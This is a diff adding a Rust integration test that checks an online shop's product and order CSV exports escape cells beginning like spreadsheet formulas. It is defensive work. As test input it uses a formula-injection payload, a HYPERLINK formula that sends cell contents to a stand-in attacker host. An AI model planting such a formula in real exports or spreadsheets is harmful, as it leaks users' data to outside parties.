@@ -857,7 +857,90 @@ async fn dashboard_counts_paid_orders_and_the_funnel(app: TestApp) {
     assert_eq!(s.get("/_fn/admin/dashboard").await.status, 403);
 }
 
+/// Issue 19.7: a cell that starts like a formula (`= + - @`, tab, CR) leaves as text in both
+/// exports, and the product export still imports back unchanged.
+async fn exported_cells_never_run_as_formulas(app: TestApp) {
+    let admin = staff(&app).await;
+    let (category, brand) = (
+        first_slug(&app, "categories").await,
+        first_slug(&app, "brands").await,
+    );
+    let formula = r#"=HYPERLINK("http://evil.example/?leak="&A1,"Open")"#;
+    let mut body = tee(&category, &brand);
+    body["name"] = json!(formula);
+    body["description"] = json!("@SUM(1+1)");
+    let r = admin.post_json("/api/products", body).await;
+    assert_eq!(r.status, 201, "{}", r.body);
+    let id = r.body["id"].as_i64().unwrap();
+    let slug = r.body["slug"].as_str().unwrap().to_string();
+
+    let a = export(&admin).await;
+    let line = a
+        .lines()
+        .find(|l| l.starts_with(&slug))
+        .expect("the product's row");
+    assert!(line.contains(r#""'=HYPERLINK(""http"#), "{line}");
+    assert!(line.contains(",'@SUM(1+1),"), "{line}");
+    for cell in a.lines().flat_map(|l| l.split(',')) {
+        let c = cell.trim_start_matches('"');
+        assert!(
+            !c.starts_with(['=', '+', '@', '\t', '\r']),
+            "a cell starts like a formula: {cell:?}"
+        );
+    }
+    // The round trip keeps the names exactly.
+    let r = upload(&admin, "/admin/import/products", "file", a.as_bytes(), &[]).await;
+    assert_eq!(r.body["applied"], true, "{}", r.body);
+    let (name, description): (String, String) = app
+        .db
+        .one(
+            &format!("SELECT name, description FROM products WHERE id = {id}"),
+            app::args![],
+        )
+        .await
+        .unwrap();
+    assert_eq!(
+        (name.as_str(), description.as_str()),
+        (formula, "@SUM(1+1)")
+    );
+    assert_eq!(export(&admin).await, a);
+
+    // The orders export: a shopper buys it; the line's product name is text too.
+    let variant: (i64,) = app
+        .db
+        .one(
+            &format!("SELECT id FROM product_variants WHERE product_id = {id} ORDER BY id LIMIT 1"),
+            app::args![],
+        )
+        .await
+        .unwrap();
+    let shopper = Shopper::new(&app);
+    assert_eq!(shopper.add(variant.0, json!(1)).await.status, 200);
+    let r = shopper
+        .post_json("/api/orders", order_body("ann@example.com", None))
+        .await;
+    assert!(r.status < 300, "{}", r.body);
+    let orders = admin
+        .client
+        .get(format!("{}/admin/export/orders.csv", admin.base))
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    assert!(orders.contains(r#""'=HYPERLINK(""http"#), "{orders}");
+    for cell in orders.lines().flat_map(|l| l.split(',')) {
+        let c = cell.trim_start_matches('"');
+        assert!(
+            !c.starts_with(['=', '+', '@', '\t', '\r']),
+            "an orders cell starts like a formula: {cell:?}"
+        );
+    }
+}
+
 both_backends!(
+    exported_cells_never_run_as_formulas,
     staff_manage_products_through_the_api,
     stock_adjustments_are_movements_and_alert_staff_once,
     untracked_variants_never_alert_low_stock,
